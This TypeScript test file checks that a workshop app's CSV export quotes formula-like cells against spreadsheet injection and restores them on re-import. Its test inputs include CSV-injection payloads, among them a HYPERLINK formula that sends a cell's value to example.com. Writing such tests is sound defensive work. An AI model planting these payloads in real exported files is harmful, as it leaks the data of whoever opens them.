import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { applyChange } from '../../../shared/change/change.ts';
import { cardsCsv, CARD_COLUMNS, prioritiesCsv } from '../../../shared/exchange/cards-csv.ts';
import { planCardsCsvImport } from '../../../shared/exchange/cards-csv-import.ts';
import { neutralise, restoreNeutralised } from '../../../shared/exchange/csv.ts';
import { cardsIn, journeysOf, lanesOf, stagesOf, stepsOf, type RecordMap } from '../../../shared/model/document.ts';
import { positionsBetween } from '../../../shared/model/ordering.ts';
import { newCard, newPainPoint } from '../../../shared/model/record-factories.ts';
import type { AnyRecord, Card } from '../../../shared/model/records.ts';
import { createRealisticWorkshop, realisticWorkshopRecords } from '../../support/realistic-workshop.ts';

const DANGEROUS = ['=1+1', '+SUM(A1)', '-2', '@x', '\tcmd', '\rcmd', '=HYPERLINK("http://example.com/?"&A1,"click")'];
// What a spreadsheet would run: a formula start, also after a tab or a carriage return.
const LIVE = /^[=+\-@\t\r]/;
const rowsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data;
const mapOf = (records: AnyRecord[]): RecordMap => Object.fromEntries(records.map((r) => [r.id, r]));

/** The realistic workshop with formula-like cards and names, in both journeys. */
function workshopWithFormulas(): { records: RecordMap; cards: Card[] } {
  const all = realisticWorkshopRecords();
  const [current, future] = journeysOf(mapOf(all));
  const place = (journeyId: string) => {
    const map = mapOf(all);
    return { step: stepsOf(map, stagesOf(map, journeyId)[1]!.id)[0]!, lane: lanesOf(map, journeyId)[0]! };
  };
  const here = place(current!.id);
  const there = place(future!.id);
  // Names a spreadsheet would run too: a stage, a step and a lane.
  Object.assign(here.step, { name: '-Shortlist' });
  Object.assign(here.lane, { name: '@Actions' });
  Object.assign(stagesOf(mapOf(all), current!.id)[1]!, { name: '=Research' });
  // After the template's own cards in the cell (a0, a1, …).
  const at = positionsBetween('a9', null, DANGEROUS.length + 3);
  const cards = [
    ...DANGEROUS.map((text, i) => newCard({ stepId: here.step.id, laneId: here.lane.id, text, position: at[i]! })),
    // A user's own leading apostrophes survive the round trip, guarded or not.
    newCard({ stepId: here.step.id, laneId: here.lane.id, text: "'Twas a slow review", position: at[DANGEROUS.length]! }),
    newCard({ stepId: here.step.id, laneId: here.lane.id, text: "'=not a formula, says the user", position: at[DANGEROUS.length + 1]! }),
    newCard({ stepId: there.step.id, laneId: there.lane.id, text: '=FUTURE()+1 only in the future state', position: at[DANGEROUS.length + 2]! }),
  ];
  const pain = newPainPoint({ cardId: cards[0]!.id, severity: 5, affectedPerPeriod: 10, costPerOccurrence: 10, owner: '+Ops' });
  return { records: mapOf([...all, ...cards, pain]), cards };
}

describe('CSV exports are safe in a spreadsheet', () => {
  it('quote every formula-like cell — card texts, stage, step and lane names — and nothing else', () => {
    const { records } = workshopWithFormulas();
    const rows = rowsOf(cardsCsv(records));
    expect(rows[0]).toEqual([...CARD_COLUMNS]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(LIVE);
    const texts = rows.map((r) => r[4]);
    for (const text of DANGEROUS) expect(texts).toContain(`'${text}`);
    expect(texts).toContain("'Twas a slow review");
    expect(texts).toContain("''=not a formula, says the user");
    expect(rows.find((r) => r[4] === "'=1+1")!.slice(1, 4)).toEqual(["'=Research", "'-Shortlist", "'@Actions"]);
    // Plain text and our own numbers are untouched.
    expect(texts).toContain('Reads the external audit report');
    expect(rows.find((r) => r[4] === "'=1+1")!.slice(6, 8)).toEqual(['0', '0']);
    const priorities = rowsOf(prioritiesCsv(records));
    for (const row of priorities) for (const cell of row) expect(cell).not.toMatch(LIVE);
    expect(priorities.find((r) => r[1] === "'=1+1")![8]).toBe("'+Ops");
  });

  it('reverse exactly what they added', () => {
    for (const text of [...DANGEROUS, "'Twas", "'=x", "''+y", 'plain', '', "'"]) expect(restoreNeutralised(neutralise(text))).toBe(text);
  });

  it('come back identical when the app imports its own file into a workshop without those cards, each to its own journey', () => {
    const { records, cards } = workshopWithFormulas();
    const [current, future] = journeysOf(records);
    const csv = cardsCsv(records);
    // Same workshop, the formula cards deleted since the export: they come back as typed.
    const without = mapOf(Object.values(records).filter((r) => !cards.some((c) => c.id === r.id) && !(r.type === 'pain-point' && r.cardId === cards[0]!.id)));
    const plan = planCardsCsvImport(without, current!.id, csv);
    expect(plan.problems).toEqual([]);
    expect(plan.created).toEqual({ stages: [], steps: [], lanes: [] });
    expect(plan.cards).toEqual({ added: cards.length, updated: 0, unchanged: 166 });
    const after = applyChange(without, plan.change!);
    for (const card of cards) expect(cardsIn(after, card.stepId, card.laneId).filter((c) => c.text === card.text)).toHaveLength(1);
    const futureCards = (r: RecordMap) => Object.values(r).filter((c): c is Card => c.type === 'card' && stagesOf(r, future!.id).some((s) => stepsOf(r, s.id).some((st) => st.id === c.stepId)));
    expect(futureCards(after)).toHaveLength(futureCards(records).length);
  });

  it('update the cards they list on a re-import, instead of adding copies', () => {
    const { records, cards } = workshopWithFormulas();
    const journeyId = journeysOf(records)[0]!.id;
    // The same file again changes nothing.
    const again = planCardsCsvImport(records, journeyId, cardsCsv(records));
    expect(again.cards).toEqual({ added: 0, updated: 0, unchanged: 166 + cards.length });
    expect(Object.keys(again.change!.added)).toEqual([]);
    expect(Object.keys(again.change!.updated)).toEqual([]);
    // Edited in a spreadsheet: one text changed, one card moved to another step, one row added.
    const rows = rowsOf(cardsCsv(records));
    const edited = rows.find((r) => r[4] === "'=1+1")!;
    edited[4] = "'=1+2";
    const moved = rows.find((r) => r[4] === "'Twas a slow review")!;
    const otherStep = rows.find((r) => r[0] === moved[0] && r[2] !== moved[2])!;
    moved[1] = otherStep[1]!;
    moved[2] = otherStep[2]!;
    rows.push([...rows.at(-1)!.slice(0, 4), 'A card typed in the spreadsheet', '', '0', '0', '']);
    const plan = planCardsCsvImport(records, journeyId, Papa.unparse(rows));
    expect(plan.problems).toEqual([]);
    expect(plan.cards).toEqual({ added: 1, updated: 2, unchanged: 166 + cards.length - 2 });
    const after = applyChange(records, plan.change!);
    expect(after[cards[0]!.id]).toMatchObject({ text: '=1+2', stepId: cards[0]!.stepId });
    const movedCard = cards.find((c) => c.text === "'Twas a slow review")!;
    expect(after[movedCard.id]).toMatchObject({ text: "'Twas a slow review" });
    expect((after[movedCard.id] as Card).stepId).not.toBe(movedCard.stepId);
    expect(Object.values(after).filter((r) => r.type === 'card')).toHaveLength(Object.values(records).filter((r) => r.type === 'card').length + 1);
  });

  it('refuse a file that lists one card twice', () => {
    const { records } = workshopWithFormulas();
    const rows = rowsOf(cardsCsv(records));
    rows.push([...rows[1]!]);
    const plan = planCardsCsvImport(records, journeysOf(records)[0]!.id, Papa.unparse(rows));
    expect(plan.change).toBeNull();
    expect(plan.problems).toEqual([{ line: rows.length, message: 'it has the same card id as line 2: each card can be listed once' }]);
  });

  it("keeps a hand-made file's leading apostrophes: only the app's own file is unquoted", () => {
    const { records } = workshopWithFormulas();
    const journeyId = journeysOf(records)[0]!.id;
    const plan = planCardsCsvImport(records, journeyId, "stage,step,lane,text\r\nTrigger,Audit finds a gap,Actions,'=1+1\r\n");
    expect(Object.values(plan.change!.added).find((r) => r.type === 'card')).toMatchObject({ text: "'=1+1" });
  });

  it('refuses rows naming a journey the workshop does not have, and says which', () => {
    const { records } = workshopWithFormulas();
    const [current, future] = journeysOf(records);
    const withoutFuture = mapOf(Object.values(records).filter((r) => r.id !== future!.id));
    const plan = planCardsCsvImport(withoutFuture, current!.id, cardsCsv(records));
    expect(plan.change).toBeNull();
    expect(plan.problems.length).toBeGreaterThan(80);
    expect(plan.problems[0]!.message).toContain(`no journey called “${future!.name}”`);
  });

  it('are written to disk neutralised by the export call', async () => {
    const { api, folder } = await createRealisticWorkshop();
    const path = join(folder, 'cards.csv');
    expect(await api.call('export-csv', { path, table: 'cards' })).toMatchObject({ ok: true });
    const rows = rowsOf(readFileSync(path, 'utf8'));
    expect(rows.length - 1).toBe(166);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(LIVE);
    expect(rows.map((r) => r[4])).toContain("'@Procurement: vendor must be set up in SAP first");
    api.close();
  });
});
